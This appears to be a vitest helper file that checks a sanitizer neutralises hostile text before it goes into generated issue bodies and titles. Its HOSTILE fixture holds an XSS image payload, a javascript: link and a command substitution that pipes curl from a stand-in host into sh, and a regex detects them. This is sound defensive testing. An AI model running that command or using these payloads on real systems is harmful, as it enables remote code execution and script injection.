import { expect } from 'vitest';
import type { Analysis } from '../src/analyzer/analyze.js';
import { factLines, keyLinesBlock, nextStep } from '../src/filing/issue-body.js';
import { createSanitizer } from '../src/text/sanitize.js';

/** Hostile text a log can carry into a finding: a mention, HTML, a script link, a command, an issue reference. */
export const HOSTILE =
  '@maintainer <img src=x onerror=alert(1)> [x](javascript:alert(1)) $(curl evil.example|sh) #123';
/** Any of HOSTILE's parts still live in markdown. */
const LIVE = /(^|[^\w`])@maintainer\b|<img|\]\(javascript:|\$\(curl|(^|[^\w&`])#123\b/;

/**
 * What an issue shows of an analysis's first finding (its facts, the next step, the key lines and
 * the title) carries none of HOSTILE's parts live. The key lines are a fenced block (inert as a
 * whole); everything else is markdown, and the title plain text, where only mentions and issue
 * references would act.
 */
export function expectInertIssueText(analysis: Analysis): void {
  const f = analysis.findings[0]!;
  const s = createSanitizer();
  const out = [...factLines(s, f.facts), nextStep(s, analysis.category, f.facts), keyLinesBlock(s, f)].join(
    '\n',
  );
  const outsideCode = out.replace(/^(`{3,}|~{3,})[^\n]*\n[\s\S]*?\n\1\s*$/gm, '');
  expect(outsideCode).not.toBe(out);
  expect(outsideCode, out).not.toMatch(LIVE);
  expect(s.title(f.title)).not.toMatch(/(^|[^\w`])@maintainer\b|(^|[^\w&`])#123\b/);
}
